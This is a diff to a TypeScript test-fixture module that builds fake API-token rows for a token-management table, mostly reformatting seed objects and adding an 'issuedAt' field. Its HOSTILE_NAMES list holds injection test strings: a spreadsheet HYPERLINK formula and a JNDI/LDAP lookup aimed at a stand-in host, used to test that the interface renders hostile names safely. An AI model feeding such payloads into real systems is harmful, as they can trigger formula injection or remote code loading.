@@ -112,6 +112,7 @@ export function makeRow(seed: RowSeed, now: number, random: () => number): Token
     scopes: seed.scopes ?? [],
     createdAt: instant(now - (seed.ageDays ?? 30) * DAY),
     createdBy: 'pi-admin',
+    issuedAt: instant(now - (seed.ageDays ?? 30) * DAY),
     expiresAt: ends === null ? null : instant(now + ends * DAY),
     lastUsedAt: used === null ? null : instant(now - used * MINUTE),
     lastUsedFrom: used === null ? null : (seed.usedFrom ?? 'plant7-scanner'),
@@ -127,25 +128,87 @@ export function fewRows(now: number): TokenRow[] {
   const rows = FEW.map((seed) => makeRow(seed, now, random));
   const rotated = rows[1];
   if (rotated) {
-    rotated.retiring = { prefix: `tdk_${base62(16, random)}`, last4: base62(4, random), endsAt: instant(now + 22 * HOUR) };
+    rotated.retiring = {
+      prefix: `tdk_${base62(16, random)}`,
+      last4: base62(4, random),
+      endsAt: instant(now + 22 * HOUR),
+    };
   }
   return rows;
 }
 
 const FEW: RowSeed[] = [
-  { name: 'PI Scanner Token', endsInDays: 201, usedMinutesAgo: 190, scopes: ['write'], groups: ['Synchronizer'], variable: VARIABLE },
-  { name: 'Nightly sync', endsInDays: 6, ageDays: 84, usedMinutesAgo: 1500, usedFrom: '10.20.7.31', scopes: ['read', 'write'] },
+  {
+    name: 'PI Scanner Token',
+    endsInDays: 201,
+    usedMinutesAgo: 190,
+    scopes: ['write'],
+    groups: ['Synchronizer'],
+    variable: VARIABLE,
+  },
+  {
+    name: 'Nightly sync',
+    endsInDays: 6,
+    ageDays: 84,
+    usedMinutesAgo: 1500,
+    usedFrom: '10.20.7.31',
+    scopes: ['read', 'write'],
+  },
   { name: 'Quality gate runner', endsInDays: 0.3, ageDays: 89.7, usedMinutesAgo: 12, usedFrom: 'ci-runner-04' },
   { name: 'Grafana read-only', endsInDays: null, usedMinutesAgo: 1, scopes: ['read'], groups: ['User'] },
   { name: 'Laboratory balance, building 3', endsInDays: 89, ageDays: 1, usedMinutesAgo: null },
-  { name: 'Historian export – plant 7', endsInDays: 45, usedMinutesAgo: 60 * 24 * 12, user: null, groups: ['Synchronizer', 'Moderator', 'Admin'] },
+  {
+    name: 'Historian export – plant 7',
+    endsInDays: 45,
+    usedMinutesAgo: 60 * 24 * 12,
+    user: null,
+    groups: ['Synchronizer', 'Moderator', 'Admin'],
+  },
   { name: 'Maintenance tablet', status: 'paused', endsInDays: 30, usedMinutesAgo: 60 * 24 * 3 },
-  { name: 'Old plugin', status: 'expired', endsInDays: -51, ageDays: 416, usedMinutesAgo: 60 * 24 * 90, groups: ['Admin'] },
-  { name: 'Contractor notebook', status: 'revoked', endsInDays: 100, ageDays: 20, usedMinutesAgo: 60 * 24 * 15, usedFrom: '192.0.2.18' },
+  {
+    name: 'Old plugin',
+    status: 'expired',
+    endsInDays: -51,
+    ageDays: 416,
+    usedMinutesAgo: 60 * 24 * 90,
+    groups: ['Admin'],
+  },
+  {
+    name: 'Contractor notebook',
+    status: 'revoked',
+    endsInDays: 100,
+    ageDays: 20,
+    usedMinutesAgo: 60 * 24 * 15,
+    usedFrom: '192.0.2.18',
+  },
 ];
 
-const WORDS = ['Scanner', 'Sync', 'Export', 'Gateway', 'Backup', 'Report', 'Runner', 'Plugin', 'Historian', 'Balance', 'Camera', 'Printer'];
-const PLACES = ['north', 'south', 'plant 7', 'plant 9', 'laboratory', 'dock', 'line 2', 'line 14', 'archive', 'warehouse'];
+const WORDS = [
+  'Scanner',
+  'Sync',
+  'Export',
+  'Gateway',
+  'Backup',
+  'Report',
+  'Runner',
+  'Plugin',
+  'Historian',
+  'Balance',
+  'Camera',
+  'Printer',
+];
+const PLACES = [
+  'north',
+  'south',
+  'plant 7',
+  'plant 9',
+  'laboratory',
+  'dock',
+  'line 2',
+  'line 14',
+  'archive',
+  'warehouse',
+];
 
 /** 10,000 rows in a shuffled order, {@link TEN_THOUSAND} of each kind. */
 export function manyRows(now: number): TokenRow[] {
@@ -190,7 +253,7 @@ export const HOSTILE_NAMES = [
   '👩‍🔬👨‍👩‍👧‍👦🏭 laboratory',
   'zero\u200Bwidth\u2060joiner\uFEFF',
   '   spaces   inside   ',
-  "O'Brien & Söhne \"Prüfstand\" – 100 %",
+  'O\'Brien & Söhne "Prüfstand" – 100 %',
   '=HYPERLINK("https://example.invalid","x")',
   '%s %d %n ${jndi:ldap://example.invalid/a}',
 ];
@@ -199,7 +262,17 @@ export const HOSTILE_NAMES = [
 export function hostileRows(now: number): TokenRow[] {
   const random = seeded(99);
   return HOSTILE_NAMES.map((name, index) =>
-    makeRow({ name, endsInDays: 40 + index, usedMinutesAgo: 90, usedFrom: index % 2 ? name.slice(0, 60) : 'host', groups: [...GROUPS] }, now, random),
+    makeRow(
+      {
+        name,
+        endsInDays: 40 + index,
+        usedMinutesAgo: 90,
+        usedFrom: index % 2 ? name.slice(0, 60) : 'host',
+        groups: [...GROUPS],
+      },
+      now,
+      random,
+    ),
   );
 }
 
